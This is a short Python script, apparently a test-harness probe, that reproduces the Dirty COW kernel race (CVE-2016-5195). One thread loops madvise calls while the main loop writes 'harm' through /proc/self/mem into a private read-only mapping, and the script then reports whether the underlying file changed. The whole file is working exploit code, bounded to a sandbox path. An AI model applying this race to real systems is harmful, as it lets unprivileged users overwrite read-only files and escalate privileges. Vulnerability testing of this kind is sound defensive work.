"""Races a write to a private mapping against the kernel's dropping of its copy.

From: "Dirty COW", CVE-2016-5195.
"""

import ctypes
import mmap
import os
import threading
import time

from evidence import done, say

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
LIBC.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
fd = os.open("/forge/inputs/data", os.O_RDONLY)
address = LIBC.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, fd, 0)
memory = os.open("/proc/self/mem", os.O_RDWR)
end = time.monotonic() + 0.3


def drop():
    while time.monotonic() < end:
        LIBC.madvise(address, 4096, 4)  # MADV_DONTNEED


dropper = threading.Thread(target=drop)
dropper.start()
written = 0
while time.monotonic() < end:
    written += os.pwrite(memory, b"harm", address)
dropper.join()
say(written=written, file=os.pread(fd, 4, 0).decode())
done()
